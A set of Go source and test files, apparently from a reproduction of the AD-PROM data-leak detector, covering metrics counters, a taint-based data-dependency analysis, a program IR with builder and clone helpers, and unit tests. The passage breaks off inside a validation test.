// AvgLatencyNanos returns the mean per-call processing time, 0 before any
// call.
func (s CountersSnapshot) AvgLatencyNanos() int64 {
	if s.Calls == 0 {
		return 0
	}
	return s.LatencyNanos / int64(s.Calls)
}

// MaxLatencyNanos returns the largest single-call processing time observed.
func (s CountersSnapshot) MaxLatencyNanos() int64 { return s.Observe.Max }

// Snapshot reads the counters. Individual fields are each read atomically;
// the snapshot as a whole is not a single atomic cut, which is fine for
// monitoring.
func (c *Counters) Snapshot() CountersSnapshot {
	s := CountersSnapshot{
		Calls:          c.calls.Load(),
		Dropped:        c.dropped.Load(),
		Shed:           c.shed.Load(),
		QueueHighWater: c.queueHighWater.Load(),
		ActiveSessions: c.sessions.Load(),
		SessionsOpened: c.opened.Load(),
		Panics:         c.panics.Load(),
		WorkerRestarts: c.workerRestarts.Load(),
		Quarantined:    c.quarantined.Load(),
		SinkDropped:    c.sinkDropped.Load(),
		SinkPanics:     c.sinkPanics.Load(),
		Swaps:          c.swaps.Load(),
		EnginesRetired: c.enginesRetired.Load(),
		Observe:        c.observe.Snapshot(),
		Flush:          c.flush.Snapshot(),
		SinkDelivery:   c.sinkDeliver.Snapshot(),
	}
	s.LatencyNanos = s.Observe.Sum
	for i := range s.Alerts {
		s.Alerts[i] = c.alerts[i].Load()
	}
	for i := range s.ChannelAlerts {
		s.ChannelAlerts[i] = c.channels[i].Load()
	}
	return s
}
