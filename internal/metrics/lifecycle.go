package metrics

import "sync/atomic"

// Lifecycle is a lock-free set of profile-lifecycle counters: drift
// estimation, background retraining, and hot-swap bookkeeping. Shared by the
// lifecycle manager's drift observer (called from detection workers) and its
// retrain goroutine; the zero value is ready.
type Lifecycle struct {
	driftSamples atomic.Uint64
	driftSignals atomic.Uint64

	retrainsStarted   atomic.Uint64
	retrainsSucceeded atomic.Uint64
	retrainsFailed    atomic.Uint64

	swaps atomic.Uint64

	tracesRecorded atomic.Uint64
	tracesEvicted  atomic.Uint64

	// retrain is the latency histogram of completed background retraining
	// runs (successful or failed).
	retrain Histogram
}

// AddDriftSample records one judgement folded into the drift estimator
// (post-sampling: judgements the sampler skips are not counted).
func (l *Lifecycle) AddDriftSample() { l.driftSamples.Add(1) }

// AddDriftSignal records one confirmed drift verdict (the estimator crossing
// its change-test boundary, not every sample while it stays crossed).
func (l *Lifecycle) AddDriftSignal() { l.driftSignals.Add(1) }

// AddRetrainStarted / AddRetrainSucceeded / AddRetrainFailed track background
// retraining runs.
func (l *Lifecycle) AddRetrainStarted()   { l.retrainsStarted.Add(1) }
func (l *Lifecycle) AddRetrainSucceeded() { l.retrainsSucceeded.Add(1) }
func (l *Lifecycle) AddRetrainFailed()    { l.retrainsFailed.Add(1) }

// AddSwap records one profile generation hot-swapped into the runtime.
func (l *Lifecycle) AddSwap() { l.swaps.Add(1) }

// AddTraceRecorded / AddTraceEvicted track the bounded ring of judged-Normal
// retraining traces.
func (l *Lifecycle) AddTraceRecorded() { l.tracesRecorded.Add(1) }
func (l *Lifecycle) AddTraceEvicted()  { l.tracesEvicted.Add(1) }

// ObserveRetrain records the duration of one completed retraining run.
func (l *Lifecycle) ObserveRetrain(nanos int64) { l.retrain.Observe(nanos) }

// LifecycleSnapshot is a point-in-time copy of a Lifecycle.
type LifecycleSnapshot struct {
	// DriftSamples counts judgements folded into the drift estimator;
	// DriftSignals counts confirmed drift verdicts.
	DriftSamples uint64
	DriftSignals uint64
	// Retraining outcomes: Started = Succeeded + Failed + in flight.
	RetrainsStarted   uint64
	RetrainsSucceeded uint64
	RetrainsFailed    uint64
	// Swaps counts profile generations published to the runtime.
	Swaps uint64
	// TracesRecorded / TracesEvicted describe the retraining ring's churn.
	TracesRecorded uint64
	TracesEvicted  uint64
	// Retrain is the latency histogram of completed retraining runs.
	Retrain HistogramSnapshot
}

// Snapshot reads the counters; each field is read atomically, the whole is
// not a single cut (fine for monitoring).
func (l *Lifecycle) Snapshot() LifecycleSnapshot {
	return LifecycleSnapshot{
		DriftSamples:      l.driftSamples.Load(),
		DriftSignals:      l.driftSignals.Load(),
		RetrainsStarted:   l.retrainsStarted.Load(),
		RetrainsSucceeded: l.retrainsSucceeded.Load(),
		RetrainsFailed:    l.retrainsFailed.Load(),
		Swaps:             l.swaps.Load(),
		TracesRecorded:    l.tracesRecorded.Load(),
		TracesEvicted:     l.tracesEvicted.Load(),
		Retrain:           l.retrain.Snapshot(),
	}
}
