// Package ddg builds the data-dependency information of AD-PROM's Analyzer
// (paper §IV-B1, §IV-C1): it finds output statements whose arguments are
// data-dependent on data retrieved from the database and assigns them their
// _Q[bid] labels.
//
// The analysis is a whole-program, flow-insensitive taint fixed point over
// the IR: PQexec/mysql_store_result results are sources, the accessor and
// string helpers of internal/callspec propagate taint, user calls propagate
// through parameters and return values, and output statements with a tainted
// argument are labelled. Flow insensitivity over-approximates — a site that
// may receive TD on any path is labelled — which matches the Analyzer's job
// of marking every output statement the Calls Collector must watch.
package ddg

import (
	"adprom/internal/callspec"
	"adprom/internal/ir"
)

// Info is the result of the data-dependency analysis.
type Info struct {
	// Labels maps labelled output call sites to their _Q observation symbol,
	// e.g. printf at main:b6 → "printf_Q6".
	Labels map[ir.CallSite]string
	// TaintedVars records, per function, the variables that may carry TD.
	TaintedVars map[string]map[string]bool
	// TaintedReturns marks functions whose return value may carry TD.
	TaintedReturns map[string]bool
}

// Label returns the observation symbol for a call site: the _Q label when the
// site is a labelled output statement, the plain call name otherwise.
func (in *Info) Label(site ir.CallSite, callName string) string {
	if l, ok := in.Labels[site]; ok {
		return l
	}
	return callName
}

// Analyze runs the taint fixed point over the whole program.
func Analyze(p *ir.Program) *Info {
	info := &Info{
		Labels:         map[ir.CallSite]string{},
		TaintedVars:    map[string]map[string]bool{},
		TaintedReturns: map[string]bool{},
	}
	for name := range p.Functions {
		info.TaintedVars[name] = map[string]bool{}
	}

	// Iterate to a fixed point. Each pass propagates taint one step through
	// assignments, calls, parameters, and returns; the lattice is finite
	// (vars × functions), so this terminates.
	for changed := true; changed; {
		changed = false
		for _, fname := range ir.FunctionNames(p) {
			if analyzeFunc(p, p.Functions[fname], info) {
				changed = true
			}
		}
	}
	return info
}

func analyzeFunc(p *ir.Program, f *ir.Function, info *Info) bool {
	vars := info.TaintedVars[f.Name]
	changed := false
	mark := func(v string) {
		if v != "" && !vars[v] {
			vars[v] = true
			changed = true
		}
	}

	for _, blk := range f.Blocks {
		for si, st := range blk.Stmts {
			switch s := st.(type) {
			case ir.Assign:
				if exprTainted(s.Src, vars) {
					mark(s.Dst)
				}

			case ir.LibCall:
				anyArg := false
				for _, a := range s.Args {
					if exprTainted(a, vars) {
						anyArg = true
						break
					}
				}
				// Sources always produce TD; mysql_query's own return is a
				// status code, the TD arrives via mysql_store_result, which
				// is itself a source.
				if s.Name == "PQexec" || s.Name == "mysql_store_result" {
					mark(s.Dst)
				} else if callspec.IsDeriver(s.Name) && anyArg {
					mark(s.Dst)
				}
				if callspec.IsOutput(s.Name) && anyArg {
					site := ir.CallSite{Func: f.Name, Block: blk.ID, Stmt: si}
					label := callspec.QLabel(s.Name, blk.ID)
					if info.Labels[site] != label {
						info.Labels[site] = label
						changed = true
					}
				}

			case ir.UserCall:
				callee := p.Func(s.Name)
				if callee == nil {
					continue
				}
				calleeVars := info.TaintedVars[s.Name]
				for i, a := range s.Args {
					if i < len(callee.Params) && exprTainted(a, vars) && !calleeVars[callee.Params[i]] {
						calleeVars[callee.Params[i]] = true
						changed = true
					}
				}
				if info.TaintedReturns[s.Name] {
					mark(s.Dst)
				}
			}
		}
		if ret, ok := blk.Term.(ir.Return); ok && ret.Val != nil {
			if exprTainted(ret.Val, vars) && !info.TaintedReturns[f.Name] {
				info.TaintedReturns[f.Name] = true
				changed = true
			}
		}
	}
	return changed
}

func exprTainted(e ir.Expr, vars map[string]bool) bool {
	switch ex := e.(type) {
	case ir.Var:
		return vars[ex.Name]
	case ir.Bin:
		return exprTainted(ex.L, vars) || exprTainted(ex.R, vars)
	case ir.Index:
		return exprTainted(ex.X, vars) || exprTainted(ex.I, vars)
	default:
		return false
	}
}
