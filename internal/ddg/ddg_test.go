package ddg

import (
	"testing"

	"adprom/internal/dataset"
	"adprom/internal/ir"
)

func TestFig3Labels(t *testing.T) {
	info := Analyze(dataset.Fig3())

	// Exactly one labelled site: f's block-3 printf that prints the query
	// result passed from main (the paper's printf_Q10).
	if len(info.Labels) != 1 {
		t.Fatalf("Labels = %v, want exactly one", info.Labels)
	}
	site := ir.CallSite{Func: "f", Block: 3, Stmt: 0}
	if got := info.Labels[site]; got != "printf_Q3" {
		t.Errorf("label for %v = %q, want printf_Q3", site, got)
	}
	if got := info.Label(site, "printf"); got != "printf_Q3" {
		t.Errorf("Label() = %q", got)
	}
	plain := ir.CallSite{Func: "f", Block: 1, Stmt: 0}
	if got := info.Label(plain, "printf"); got != "printf" {
		t.Errorf("unlabelled site Label() = %q", got)
	}
	// Taint flowed across the call boundary into f's parameter.
	if !info.TaintedVars["f"]["data"] {
		t.Errorf("f.data not tainted: %v", info.TaintedVars["f"])
	}
	if !info.TaintedVars["main"]["result"] {
		t.Errorf("main.result not tainted: %v", info.TaintedVars["main"])
	}
}

// TestInterproceduralReturnTaint checks taint flowing out of a function via
// its return value: helper() fetches from the DB, main prints what it got.
func TestInterproceduralReturnTaint(t *testing.T) {
	b := ir.NewBuilder("ret")
	h := b.Func("helper", "conn")
	hb := h.Block()
	hb.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT * FROM t"))
	hb.CallTo("v", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
	hb.RetVal(ir.V("v"))

	m := b.Func("main")
	mb := m.Block()
	mb.CallTo("conn", "PQconnectdb")
	mb.InvokeTo("secret", "helper", ir.V("conn"))
	mb.Call("printf", ir.S("%s"), ir.V("secret"))
	mb.Ret()
	p := b.MustBuild()

	info := Analyze(p)
	if !info.TaintedReturns["helper"] {
		t.Error("helper's return not tainted")
	}
	site := ir.CallSite{Func: "main", Block: 0, Stmt: 2}
	if got := info.Labels[site]; got != "printf_Q0" {
		t.Errorf("main's printf label = %q, want printf_Q0 (labels: %v)", got, info.Labels)
	}
}

// TestMySQLChainTaint follows the full MySQL idiom: query → store_result →
// fetch_row → row index → printf.
func TestMySQLChainTaint(t *testing.T) {
	b := ir.NewBuilder("mysql")
	m := b.Func("main")
	e := m.Block()
	loop := m.Block()
	body := m.Block()
	done := m.Block()
	e.CallTo("conn", "mysql_real_connect")
	e.CallTo("st", "mysql_query", ir.V("conn"), ir.S("SELECT * FROM clients"))
	e.CallTo("result", "mysql_store_result", ir.V("conn"))
	e.Goto(loop)
	loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
	loop.If(ir.V("row"), body, done)
	body.Call("printf", ir.S("%s"), ir.At(ir.V("row"), ir.I(0)))
	body.Goto(loop)
	done.Ret()
	p := b.MustBuild()

	info := Analyze(p)
	site := ir.CallSite{Func: "main", Block: 2, Stmt: 0}
	if got := info.Labels[site]; got != "printf_Q2" {
		t.Errorf("printf label = %q, want printf_Q2 (labels: %v)", got, info.Labels)
	}
	for _, v := range []string{"result", "row"} {
		if !info.TaintedVars["main"][v] {
			t.Errorf("%s not tainted", v)
		}
	}
	// The status variable is not TD.
	if info.TaintedVars["main"]["st"] {
		t.Error("mysql_query status wrongly tainted")
	}
}

// TestStringLaunderingIsTracked checks taint surviving strcpy/strcat/sprintf
// laundering — the paper's attack 1.3 reuses an existing file write after
// stuffing TD into its buffer variable.
func TestStringLaunderingIsTracked(t *testing.T) {
	b := ir.NewBuilder("launder")
	m := b.Func("main")
	e := m.Block()
	e.CallTo("conn", "PQconnectdb")
	e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT secret FROM t"))
	e.CallTo("v", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
	e.CallTo("buf", "strcpy", ir.S("prefix: "))
	e.CallTo("buf", "strcat", ir.V("buf"), ir.V("v"))
	e.CallTo("f", "fopen", ir.S("log"), ir.S("w"))
	e.Call("fputs", ir.V("buf"), ir.V("f"))
	e.Ret()
	p := b.MustBuild()

	info := Analyze(p)
	site := ir.CallSite{Func: "main", Block: 0, Stmt: 6}
	if got := info.Labels[site]; got != "fputs_Q0" {
		t.Errorf("fputs label = %q, want fputs_Q0 (labels: %v)", got, info.Labels)
	}
}

// TestNoFalseLabelsWithoutDBData ensures output statements over constants and
// plain input stay unlabelled.
func TestNoFalseLabelsWithoutDBData(t *testing.T) {
	b := ir.NewBuilder("clean")
	m := b.Func("main")
	e := m.Block()
	e.CallTo("name", "scanf", ir.S("%s"))
	e.Call("printf", ir.S("hello %s"), ir.V("name"))
	e.Call("printf", ir.S("goodbye"))
	e.Ret()
	p := b.MustBuild()

	info := Analyze(p)
	if len(info.Labels) != 0 {
		t.Errorf("Labels = %v, want none", info.Labels)
	}
}

// TestFixedPointTerminatesOnMutualRecursion guards the fixed-point loop
// against call-graph cycles.
func TestFixedPointTerminatesOnMutualRecursion(t *testing.T) {
	b := ir.NewBuilder("mutual")
	f := b.Func("f", "x")
	fb := f.Block()
	stop := f.Block()
	rec := f.Block()
	fb.If(ir.V("x"), rec, stop)
	rec.InvokeTo("r", "g", ir.V("x"))
	rec.RetVal(ir.V("r"))
	stop.RetVal(ir.V("x"))

	g := b.Func("g", "y")
	gb := g.Block()
	gb.InvokeTo("r", "f", ir.Sub(ir.V("y"), ir.I(1)))
	gb.RetVal(ir.V("r"))

	m := b.Func("main")
	mb := m.Block()
	mb.CallTo("conn", "PQconnectdb")
	mb.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT x FROM t"))
	mb.CallTo("v", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
	mb.InvokeTo("out", "f", ir.V("v"))
	mb.Call("printf", ir.S("%s"), ir.V("out"))
	mb.Ret()
	p := b.MustBuild()

	info := Analyze(p) // must terminate
	if !info.TaintedReturns["f"] || !info.TaintedReturns["g"] {
		t.Errorf("recursive taint not propagated: %v", info.TaintedReturns)
	}
	site := ir.CallSite{Func: "main", Block: 0, Stmt: 4}
	if info.Labels[site] != "printf_Q0" {
		t.Errorf("Labels = %v", info.Labels)
	}
}
