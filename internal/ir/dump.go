package ir

import (
	"fmt"
	"strings"
)

// Dump renders the program as readable pseudo-assembly, used in error
// messages and golden-test failure output.
func Dump(p *Program) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "program %s (entry %s)\n", p.Name, p.Entry)
	for _, name := range FunctionNames(p) {
		f := p.Functions[name]
		fmt.Fprintf(&sb, "\nfunc %s(%s):\n", f.Name, strings.Join(f.Params, ", "))
		for _, blk := range f.Blocks {
			fmt.Fprintf(&sb, "  b%d:\n", blk.ID)
			for _, st := range blk.Stmts {
				fmt.Fprintf(&sb, "    %s\n", st)
			}
			fmt.Fprintf(&sb, "    %s\n", blk.Term)
		}
	}
	return sb.String()
}
