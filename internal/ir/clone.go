package ir

// Clone returns a deep copy of the program. The attack framework mutates
// copies of dataset programs (inserting calls, patching blocks, rewriting
// arguments) while the original continues to serve as the trained baseline,
// so aliasing between the two would corrupt experiments.
//
// Expressions are immutable value trees and are shared; statements,
// terminators, blocks, functions and slices are copied.
func Clone(p *Program) *Program {
	if p == nil {
		return nil
	}
	cp := &Program{
		Name:      p.Name,
		Entry:     p.Entry,
		Functions: make(map[string]*Function, len(p.Functions)),
	}
	for name, f := range p.Functions {
		cp.Functions[name] = cloneFunc(f)
	}
	return cp
}

func cloneFunc(f *Function) *Function {
	cf := &Function{
		Name:   f.Name,
		Params: append([]string(nil), f.Params...),
		Blocks: make([]*Block, len(f.Blocks)),
	}
	for i, blk := range f.Blocks {
		cf.Blocks[i] = cloneBlock(blk)
	}
	return cf
}

func cloneBlock(b *Block) *Block {
	cb := &Block{ID: b.ID, Term: cloneTerm(b.Term)}
	if b.Stmts != nil {
		cb.Stmts = make([]Stmt, len(b.Stmts))
		for i, st := range b.Stmts {
			cb.Stmts[i] = cloneStmt(st)
		}
	}
	return cb
}

func cloneStmt(s Stmt) Stmt {
	switch st := s.(type) {
	case Assign:
		return Assign{Dst: st.Dst, Src: st.Src}
	case LibCall:
		return LibCall{Dst: st.Dst, Name: st.Name, Args: append([]Expr(nil), st.Args...)}
	case UserCall:
		return UserCall{Dst: st.Dst, Name: st.Name, Args: append([]Expr(nil), st.Args...)}
	default:
		return s
	}
}

func cloneTerm(t Terminator) Terminator {
	switch tt := t.(type) {
	case Goto:
		return Goto{Target: tt.Target}
	case If:
		return If{Cond: tt.Cond, Then: tt.Then, Else: tt.Else}
	case Return:
		return Return{Val: tt.Val}
	default:
		return t
	}
}
