package ir

import (
	"fmt"
	"sort"
)

// CallSite identifies one library-call statement: the function, the basic
// block, and the statement index within the block. Call sites — not call
// names — are the unit the paper's call-transition matrices are keyed by
// (Table I distinguishes printf' from printf” in main()).
type CallSite struct {
	Func  string
	Block int
	Stmt  int
}

// String renders "func:bN:sM", stable for map keys in debug output.
func (c CallSite) String() string { return fmt.Sprintf("%s:b%d:s%d", c.Func, c.Block, c.Stmt) }

// SiteCall pairs a call site with the library call at that site.
type SiteCall struct {
	Site CallSite
	Call LibCall
}

// CallSites returns all library-call sites of function f in deterministic
// (block, statement) order.
func CallSites(f *Function) []SiteCall {
	var out []SiteCall
	for _, blk := range f.Blocks {
		for si, st := range blk.Stmts {
			lc, ok := st.(LibCall)
			if !ok {
				continue
			}
			out = append(out, SiteCall{
				Site: CallSite{Func: f.Name, Block: blk.ID, Stmt: si},
				Call: lc,
			})
		}
	}
	return out
}

// ProgramCallSites returns all library-call sites of the program, ordered by
// function name then site position.
func ProgramCallSites(p *Program) []SiteCall {
	names := FunctionNames(p)
	var out []SiteCall
	for _, name := range names {
		out = append(out, CallSites(p.Functions[name])...)
	}
	return out
}

// FunctionNames returns the program's function names sorted alphabetically,
// giving analyses a deterministic iteration order over the Functions map.
func FunctionNames(p *Program) []string {
	names := make([]string, 0, len(p.Functions))
	for name := range p.Functions {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// Callees returns the set of user functions invoked by f, sorted.
func Callees(f *Function) []string {
	seen := map[string]bool{}
	for _, blk := range f.Blocks {
		for _, st := range blk.Stmts {
			if uc, ok := st.(UserCall); ok {
				seen[uc.Name] = true
			}
		}
	}
	out := make([]string, 0, len(seen))
	for name := range seen {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// CallNames returns the distinct library-call names appearing in the program,
// sorted. This is the "legitimate calls" vocabulary used when synthesising
// anomalous sequences.
func CallNames(p *Program) []string {
	seen := map[string]bool{}
	for _, f := range p.Functions {
		for _, blk := range f.Blocks {
			for _, st := range blk.Stmts {
				if lc, ok := st.(LibCall); ok {
					seen[lc.Name] = true
				}
			}
		}
	}
	out := make([]string, 0, len(seen))
	for name := range seen {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}
