// Package ir defines the intermediate representation of application programs
// analysed and monitored by AD-PROM.
//
// The paper's implementation statically analyses ELF binaries with Dyninst;
// this reproduction instead represents programs explicitly as a call graph of
// functions, where each function is a control-flow graph (CFG) of basic
// blocks. Blocks contain straight-line statements (assignments, library
// calls, user-function calls) and end in a single terminator (goto,
// conditional branch, or return). The representation carries exactly the
// information AD-PROM's Analyzer extracts from a binary: control flow, call
// sites, and the data flow needed to build the data-dependency graph (DDG).
//
// Programs built in this package are both statically analysed (internal/cfg,
// internal/ddg, internal/ctm) and dynamically executed (internal/interp), so
// the same artefact drives the training and the detection phases.
package ir

import "fmt"

// Program is a complete application program: a set of functions and the name
// of the entry function (conventionally "main").
type Program struct {
	// Name identifies the program (e.g. "apph" for the hospital client).
	Name string
	// Entry is the name of the function where execution starts.
	Entry string
	// Functions maps function names to their bodies.
	Functions map[string]*Function
}

// Function is one procedure of the program, represented as a CFG of basic
// blocks. Blocks[0] is the unique entry block.
type Function struct {
	// Name is the function's unique name within the program.
	Name string
	// Params are the names of the formal parameters, bound positionally at
	// call time.
	Params []string
	// Blocks holds the basic blocks; block IDs index into this slice.
	Blocks []*Block
}

// Block is a basic block: a run of statements with a single terminator.
type Block struct {
	// ID is the block's index in Function.Blocks. Block IDs are the "bid"
	// values used in the paper's output-statement labels (printf_Q[bid]).
	ID int
	// Stmts is the straight-line statement list.
	Stmts []Stmt
	// Term transfers control at the end of the block. A nil Term is invalid;
	// use Return for function exits.
	Term Terminator
}

// Stmt is a straight-line statement inside a basic block.
type Stmt interface {
	stmt()
	fmt.Stringer
}

// Assign evaluates Src and binds the result to local variable Dst.
type Assign struct {
	Dst string
	Src Expr
}

// LibCall invokes a library function (printf, PQexec, strcpy, ...). Library
// calls are the observable events of the system: the interpreter emits one
// trace event per LibCall executed, and the static analysis places one call
// site per LibCall. If Dst is non-empty the call's return value is bound to
// it.
type LibCall struct {
	Dst  string
	Name string
	Args []Expr
}

// UserCall invokes another function of the same program. User calls are not
// observable events themselves (the paper's collector records library calls),
// but they drive the call-graph aggregation of per-function CTMs.
type UserCall struct {
	Dst  string
	Name string
	Args []Expr
}

func (Assign) stmt()   {}
func (LibCall) stmt()  {}
func (UserCall) stmt() {}

func (s Assign) String() string { return fmt.Sprintf("%s = %s", s.Dst, s.Src) }

func (s LibCall) String() string {
	if s.Dst == "" {
		return fmt.Sprintf("%s(%s)", s.Name, exprList(s.Args))
	}
	return fmt.Sprintf("%s = %s(%s)", s.Dst, s.Name, exprList(s.Args))
}

func (s UserCall) String() string {
	if s.Dst == "" {
		return fmt.Sprintf("call %s(%s)", s.Name, exprList(s.Args))
	}
	return fmt.Sprintf("%s = call %s(%s)", s.Dst, s.Name, exprList(s.Args))
}

// Terminator ends a basic block.
type Terminator interface {
	term()
	fmt.Stringer
	// Succs returns the IDs of the possible successor blocks.
	Succs() []int
}

// Goto unconditionally transfers control to block Target.
type Goto struct {
	Target int
}

// If evaluates Cond and transfers control to Then when truthy (non-zero,
// non-empty) and to Else otherwise.
type If struct {
	Cond Expr
	Then int
	Else int
}

// Return exits the function, optionally yielding Val (nil for void returns).
type Return struct {
	Val Expr
}

func (Goto) term()   {}
func (If) term()     {}
func (Return) term() {}

func (t Goto) Succs() []int   { return []int{t.Target} }
func (t If) Succs() []int     { return []int{t.Then, t.Else} }
func (t Return) Succs() []int { return nil }

func (t Goto) String() string { return fmt.Sprintf("goto b%d", t.Target) }
func (t If) String() string   { return fmt.Sprintf("if %s then b%d else b%d", t.Cond, t.Then, t.Else) }
func (t Return) String() string {
	if t.Val == nil {
		return "return"
	}
	return fmt.Sprintf("return %s", t.Val)
}

// Func returns the named function or nil.
func (p *Program) Func(name string) *Function {
	if p == nil || p.Functions == nil {
		return nil
	}
	return p.Functions[name]
}

// EntryFunc returns the entry function or nil when absent.
func (p *Program) EntryFunc() *Function { return p.Func(p.Entry) }

// NumBlocks returns the total number of basic blocks across all functions.
func (p *Program) NumBlocks() int {
	n := 0
	for _, f := range p.Functions {
		n += len(f.Blocks)
	}
	return n
}

// NumStmts returns the total number of statements across all functions.
func (p *Program) NumStmts() int {
	n := 0
	for _, f := range p.Functions {
		for _, b := range f.Blocks {
			n += len(b.Stmts)
		}
	}
	return n
}
