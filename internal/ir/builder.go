package ir

import "fmt"

// Builder constructs a Program incrementally. It exists so that the dataset
// packages can express realistic client applications tersely; Build validates
// the result.
type Builder struct {
	prog  *Program
	order []string
}

// NewBuilder starts a program named name with entry function "main".
func NewBuilder(name string) *Builder {
	return &Builder{prog: &Program{
		Name:      name,
		Entry:     "main",
		Functions: map[string]*Function{},
	}}
}

// SetEntry overrides the entry function name (default "main").
func (b *Builder) SetEntry(name string) *Builder {
	b.prog.Entry = name
	return b
}

// Func declares a function and returns its builder. Declaring the same name
// twice panics: dataset programs are static artefacts, so this is a
// programming error, not a runtime condition.
func (b *Builder) Func(name string, params ...string) *FuncBuilder {
	if _, dup := b.prog.Functions[name]; dup {
		panic(fmt.Sprintf("ir: duplicate function %q", name))
	}
	f := &Function{Name: name, Params: params}
	b.prog.Functions[name] = f
	b.order = append(b.order, name)
	return &FuncBuilder{fn: f}
}

// Build validates and returns the program.
func (b *Builder) Build() (*Program, error) {
	if err := Validate(b.prog); err != nil {
		return nil, err
	}
	return b.prog, nil
}

// MustBuild is Build panicking on error; used by the hand-written dataset
// programs whose shape is fixed at compile time.
func (b *Builder) MustBuild() *Program {
	p, err := b.Build()
	if err != nil {
		panic(err)
	}
	return p
}

// FuncBuilder builds one function's CFG.
type FuncBuilder struct {
	fn *Function
}

// Name returns the function's name.
func (fb *FuncBuilder) Name() string { return fb.fn.Name }

// Block appends a new empty basic block and returns its builder. The first
// block created is the entry block.
func (fb *FuncBuilder) Block() *BlockBuilder {
	blk := &Block{ID: len(fb.fn.Blocks)}
	fb.fn.Blocks = append(fb.fn.Blocks, blk)
	return &BlockBuilder{fn: fb.fn, blk: blk}
}

// BlockBuilder appends statements and the terminator to one block.
type BlockBuilder struct {
	fn  *Function
	blk *Block
}

// ID returns the block's ID.
func (bb *BlockBuilder) ID() int { return bb.blk.ID }

// Assign appends dst = src.
func (bb *BlockBuilder) Assign(dst string, src Expr) *BlockBuilder {
	bb.blk.Stmts = append(bb.blk.Stmts, Assign{Dst: dst, Src: src})
	return bb
}

// Call appends a library call with no result binding.
func (bb *BlockBuilder) Call(name string, args ...Expr) *BlockBuilder {
	bb.blk.Stmts = append(bb.blk.Stmts, LibCall{Name: name, Args: args})
	return bb
}

// CallTo appends dst = libcall(args...).
func (bb *BlockBuilder) CallTo(dst, name string, args ...Expr) *BlockBuilder {
	bb.blk.Stmts = append(bb.blk.Stmts, LibCall{Dst: dst, Name: name, Args: args})
	return bb
}

// Invoke appends a user-function call with no result binding.
func (bb *BlockBuilder) Invoke(fn string, args ...Expr) *BlockBuilder {
	bb.blk.Stmts = append(bb.blk.Stmts, UserCall{Name: fn, Args: args})
	return bb
}

// InvokeTo appends dst = fn(args...) for a user function.
func (bb *BlockBuilder) InvokeTo(dst, fn string, args ...Expr) *BlockBuilder {
	bb.blk.Stmts = append(bb.blk.Stmts, UserCall{Dst: dst, Name: fn, Args: args})
	return bb
}

// Goto terminates the block with an unconditional jump.
func (bb *BlockBuilder) Goto(target *BlockBuilder) {
	bb.blk.Term = Goto{Target: target.ID()}
}

// If terminates the block with a conditional branch.
func (bb *BlockBuilder) If(cond Expr, then, els *BlockBuilder) {
	bb.blk.Term = If{Cond: cond, Then: then.ID(), Else: els.ID()}
}

// Ret terminates the block with a void return.
func (bb *BlockBuilder) Ret() { bb.blk.Term = Return{} }

// RetVal terminates the block returning v.
func (bb *BlockBuilder) RetVal(v Expr) { bb.blk.Term = Return{Val: v} }
