package ir

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

// buildSample constructs a two-function program exercising every statement
// and terminator kind.
func buildSample(t *testing.T) *Program {
	t.Helper()
	b := NewBuilder("sample")

	helper := b.Func("helper", "x")
	hb := helper.Block()
	hb.CallTo("n", "strlen", V("x"))
	hb.RetVal(V("n"))

	main := b.Func("main")
	entry := main.Block()
	loop := main.Block()
	body := main.Block()
	done := main.Block()

	entry.Assign("i", I(0))
	entry.InvokeTo("len", "helper", S("hello"))
	entry.Goto(loop)
	loop.If(Lt(V("i"), V("len")), body, done)
	body.Call("printf", S("%d"), V("i"))
	body.Assign("i", Add(V("i"), I(1)))
	body.Goto(loop)
	done.Ret()

	p, err := b.Build()
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return p
}

func TestBuilderProducesValidProgram(t *testing.T) {
	p := buildSample(t)
	if got := p.Entry; got != "main" {
		t.Errorf("Entry = %q, want main", got)
	}
	if p.EntryFunc() == nil {
		t.Fatal("EntryFunc returned nil")
	}
	if got, want := len(p.Functions), 2; got != want {
		t.Errorf("len(Functions) = %d, want %d", got, want)
	}
	if got, want := p.NumBlocks(), 5; got != want {
		t.Errorf("NumBlocks = %d, want %d", got, want)
	}
	if got, want := p.NumStmts(), 5; got != want {
		t.Errorf("NumStmts = %d, want %d", got, want)
	}
}

func TestValidateRejectsBrokenPrograms(t *testing.T) {
	tests := []struct {
		name  string
		build func() *Program
	}{
		{"nil program", func() *Program { return nil }},
		{"missing entry", func() *Program {
			return &Program{Name: "p", Entry: "main", Functions: map[string]*Function{}}
		}},
		{"empty function", func() *Program {
			return &Program{Name: "p", Entry: "main", Functions: map[string]*Function{
				"main": {Name: "main"},
			}}
		}},
		{"missing terminator", func() *Program {
			return &Program{Name: "p", Entry: "main", Functions: map[string]*Function{
				"main": {Name: "main", Blocks: []*Block{{ID: 0}}},
			}}
		}},
		{"branch out of range", func() *Program {
			return &Program{Name: "p", Entry: "main", Functions: map[string]*Function{
				"main": {Name: "main", Blocks: []*Block{{ID: 0, Term: Goto{Target: 3}}}},
			}}
		}},
		{"mismatched block id", func() *Program {
			return &Program{Name: "p", Entry: "main", Functions: map[string]*Function{
				"main": {Name: "main", Blocks: []*Block{{ID: 7, Term: Return{}}}},
			}}
		}},
		{"undefined callee", func() *Program {
			return &Program{Name: "p", Entry: "main", Functions: map[string]*Function{
				"main": {Name: "main", Blocks: []*Block{{
					ID:    0,
					Stmts: []Stmt{UserCall{Name: "ghost"}},
					Term:  Return{},
				}}},
			}}
		}},
		{"arity mismatch", func() *Program {
			return &Program{Name: "p", Entry: "main", Functions: map[string]*Function{
				"main": {Name: "main", Blocks: []*Block{{
					ID:    0,
					Stmts: []Stmt{UserCall{Name: "h", Args: []Expr{I(1), I(2)}}},
					Term:  Return{},
				}}},
				"h": {Name: "h", Params: []string{"x"}, Blocks: []*Block{{ID: 0, Term: Return{}}}},
			}}
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := Validate(tc.build())
			if err == nil {
				t.Fatal("Validate accepted invalid program")
			}
			if !errors.Is(err, ErrInvalid) {
